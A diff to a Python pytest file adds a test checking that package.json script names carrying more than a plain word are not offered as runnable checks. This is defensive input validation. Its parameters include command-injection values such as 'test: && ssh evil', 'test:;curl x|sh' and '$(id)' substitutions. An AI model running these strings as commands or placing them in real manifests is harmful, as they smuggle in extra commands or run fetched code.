@@ -89,6 +89,15 @@ def test_scripts_run_by_the_program_that_locked_the_packages(
     assert find_checks(str(tmp_path)) == [f"{program} run test", f"{program} test"]
 
 
+@pytest.mark.parametrize(
+    "name",
+    ["test: && ssh evil", "test:;curl x|sh", "test-$(id)", "test-`id`", "lint-a b", "test-\n"],
+)
+def test_a_script_whose_name_is_more_than_a_word_is_not_offered(tmp_path: Path, name: str) -> None:
+    (tmp_path / "package.json").write_text(json.dumps({"scripts": {name: "x"}}))
+    assert find_checks(str(tmp_path)) == []
+
+
 @pytest.mark.parametrize("text", ["", "{", "[]", '{"scripts": []}', "\udcff"])
 def test_a_manifest_that_is_damaged_names_none(tmp_path: Path, text: str) -> None:
     (tmp_path / "package.json").write_text(text, errors="surrogateescape")
